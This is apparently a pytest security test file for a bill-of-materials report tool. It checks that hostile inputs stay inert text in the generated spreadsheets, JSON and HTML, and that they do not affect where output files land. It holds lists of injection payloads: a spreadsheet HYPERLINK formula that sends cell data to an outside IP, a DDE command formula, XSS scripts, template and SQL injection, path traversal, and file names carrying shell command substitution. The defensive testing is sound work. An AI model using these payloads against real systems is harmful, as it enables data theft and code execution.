"""What hostile names do to the reports: they stay text, and they decide nothing about where a file goes."""

from __future__ import annotations

import html.parser
import json
import os
import re
import subprocess
import sys
import unicodedata
import zipfile
from pathlib import Path

import pytest

from bom.formats import open_file
from tests.hostile import making as hostile
from tests.support import ROOT, Run, packed_text, unmeasured

FILES = [
    "critical-components.xlsx",
    "findings.json",
    "memo.docx",
    "raw-materials.csv",
    "raw-materials.xlsx",
    "risk-map.html",
]
BOOKS = [name for name in FILES if name.endswith(".xlsx")]
LONGEST = 32_767

PAYLOADS = (
    '=HYPERLINK("http://192.0.2.1/?"&A1;"x")',
    "==1",
    "=a b c",
    "+1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "＝1+1",
    "</script><script>alert(1)</script>",
    '<img src=x onerror="alert(1)"> href',
    "javascript:alert(1)",
    "{{ 7 * 7 }} {% include 'x' %} ${7}",
    "__proto__",
    "http://192.0.2.1/x",
    "../../../../tmp/slip",
    "con",
    "a\x1b[2Jb\x9bc\x7f",
    "\u202egnp.exe\u200b\ufeff\ufffe",
    "_x001B_[31m",
    "M" * 50_000,
    "😀 \U000e0041 \U0010ffff",
    "'; DROP TABLE x; --",
)


class Page(html.parser.HTMLParser):
    """The scripts of a page, the text beside them, and what its elements would run or load."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.source = source
        self.scripts: list[str] = []
        self.text = ""
        self.active: list[tuple[str, str | None]] = []
        self._inside = False
        self.feed(source)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag == "script"
        self.active += [(name, value) for name, value in attrs if name.startswith("on") or name in ("src", "href")]
        if self._inside:
            self.scripts.append("")

    def handle_endtag(self, tag: str) -> None:
        self._inside = False

    def handle_data(self, data: str) -> None:
        if self._inside:
            self.scripts[-1] += data
        else:
            self.text += data

    @property
    def data(self) -> str:
        """What the page holds for its scripts: JSON, without the drawing library, which is no name of anybody."""
        content = json.loads(packed_text(self.source))
        content["shared"].pop("drawing")
        return json.dumps(content, ensure_ascii=False)


def page_of(folder: Path) -> Page:
    return Page((folder / "risk-map.html").read_text("utf-8"))


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The reports of a system in which every text is a payload, in the order of `FILES`."""
    folder = tmp_path_factory.mktemp("payloads")
    quoted = ['"' + payload.replace('"', '""') + '"' for payload in PAYLOADS]
    rows = [(q, 4, q, f'"P-{at}"', q) for at, q in enumerate(quoted)]
    header = ("Description", "Qty", "Manufacturer", "MPN", "Country of Origin")
    (folder / "bom.csv").write_bytes(hostile.csv(rows, header))
    command = [sys.executable, "-m", "depmap", "analyze", "bom.csv", "-o", "out"]
    environment = unmeasured() | {"PYTHONPATH": str(ROOT)}
    done = subprocess.run(command, cwd=folder, env=environment, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert len(json.loads((folder / "out/findings.json").read_text("utf-8"))["components"]) == len(PAYLOADS)
    return folder / "out"


@pytest.mark.parametrize("book", BOOKS)
def test_no_cell_is_a_formula_a_link_or_too_long(written: Path, book: str) -> None:
    with zipfile.ZipFile(written / book) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    sheets = "".join(text for name, text in parts.items() if name.startswith("xl/worksheets"))
    assert not re.search(r"<f[ >/]", sheets)
    assert all("location=" in link and "r:id" not in link for link in re.findall("<hyperlink [^>]*>", sheets))
    assert not [name for name in parts if "externalLink" in name or "vbaProject" in name]
    assert 'TargetMode="External"' not in "".join(parts.values())
    texts = [cell for sheet in open_file(written / book).sheets for row in sheet.rows for cell in row]
    strings = {text for text in texts if isinstance(text, str)}
    assert {"==1", "=a b c", "+1+cmd|' /C calc'!A0", "@SUM(A1)", "__proto__"} <= strings
    assert max(map(len, strings)) == LONGEST


def test_no_control_character_reaches_a_report(written: Path) -> None:
    sheets = [sheet for book in BOOKS for sheet in open_file(written / book).sheets]
    texts = [cell for sheet in sheets for row in sheet.rows for cell in row]
    shown = "".join(text for text in texts if isinstance(text, str))
    page = page_of(written)
    table = (written / "raw-materials.csv").read_text("utf-8-sig").replace("\r\n", "\n")
    for text in (shown, table, page.text, page.data):
        odd = {char for char in text if unicodedata.category(char) in {"Cc", "Cf", "Cs", "Cn"}}
        assert odd <= {"\n", "\t"}


def test_the_page_runs_its_own_scripts_and_nothing_else(written: Path) -> None:
    page = page_of(written)
    assert [value for name, value in page.active if not (name == "href" and (value or "").startswith("#"))] == []
    assert [len(each["systems"]) for each in json.loads(page.data)["languages"].values()] == [1, 1]
    # Neither the data nor any other script holds a payload that is markup.
    assert not [script for script in page.scripts if "<script>alert" in script or "<img src=x" in script]
    packed = [each["body"] for each in json.loads(page.data)["languages"].values() if "body" in each]
    assert packed
    for body in packed:
        assert "<script" not in body
        assert "<img" not in body


def test_the_numbers_of_the_page_are_json(written: Path) -> None:
    def refuse(word: str) -> None:
        raise AssertionError(word)

    json.loads((written / "findings.json").read_text("utf-8"), parse_constant=refuse)
    json.loads(page_of(written).data, parse_constant=refuse)


NAMES = [
    b"..%2f..%2fslip.csv",
    b"con.csv",
    b"-rf.csv",
    b"--help.csv",
    b". .csv",
    b"...csv",
    b"a\nb\x1b[31m.csv",
    b"half\xff\xfe.csv",
    "e\u0301.csv".encode(),
    b"x" * 240 + b".csv",
    b"$(touch slip);`touch slip`.csv",
    b"<b>&amp;.csv",
]


@pytest.mark.skipif(sys.platform == "win32", reason="Windows allows none of these names")
@pytest.mark.parametrize("name", NAMES)
def test_a_file_name_decides_nothing_about_where_reports_go(run_depmap: Run, tmp_path: Path, name: bytes) -> None:
    path = tmp_path / os.fsdecode(name)
    path.write_bytes(hostile.csv())
    done = run_depmap("analyze", "--", path.name)
    assert done.returncode == 0, done.stderr
    made = [each for each in tmp_path.iterdir() if each != path]
    assert [each.is_dir() and re.fullmatch(r"depmap-[a-z0-9-]{1,60}", each.name) is not None for each in made] == [True]
    assert sorted(each.name for each in made[0].iterdir()) == FILES
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]", done.stdout + done.stderr)


def test_a_system_name_decides_nothing_about_where_reports_go(run_depmap: Run, tmp_path: Path) -> None:
    title = b"System;../../../../slip\n\n"
    (tmp_path / "bom.csv").write_bytes(title + hostile.csv())
    assert run_depmap("analyze", "bom.csv").returncode == 0
    assert sorted(each.name for each in tmp_path.iterdir()) == ["bom.csv", "depmap-bom"]


@pytest.mark.skipif(sys.platform == "win32", reason="links need rights there")
@pytest.mark.parametrize("name", [*FILES, "network.json"])
def test_a_link_at_the_name_of_an_output_is_replaced_not_followed(run_depmap: Run, tmp_path: Path, name: str) -> None:
    (tmp_path / "bom.csv").write_bytes(hostile.csv())
    (tmp_path / "victim").write_bytes(b"mine")
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / name).symlink_to("../victim")
    done = run_depmap("analyze", "bom.csv", "-o", "out", "--graph", "out/network.json")
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "victim").read_bytes() == b"mine"
    assert not (tmp_path / "out" / name).is_symlink()


def test_a_name_in_the_page_is_the_name_in_the_workbook(written: Path) -> None:
    """Nothing was cut out to make it safe."""
    data = json.dumps(json.loads(page_of(written).data), ensure_ascii=False)
    for payload in ("</script><script>alert(1)</script>", "__proto__", "{{ 7 * 7 }}"):
        assert payload in data
